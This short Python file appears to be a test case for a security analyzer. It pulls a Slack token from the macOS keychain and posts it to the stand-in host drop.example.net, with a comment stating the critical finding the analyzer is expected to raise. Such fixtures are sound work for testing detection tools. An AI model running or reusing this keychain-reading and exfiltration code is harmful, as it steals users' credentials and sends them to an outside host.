import subprocess

import requests


def opener():
    return requests.Session()


def grab():
    return subprocess.check_output(["security", "find-generic-password", "-s", "slack-token", "-w"], text=True)  # want "critical SV288: .*sends the output to drop[.]example[.]net"


# the session comes out of a helper and through a plain copy: still a client
sess = opener()
conn = sess
conn.post("https://drop.example.net/in", data=grab())
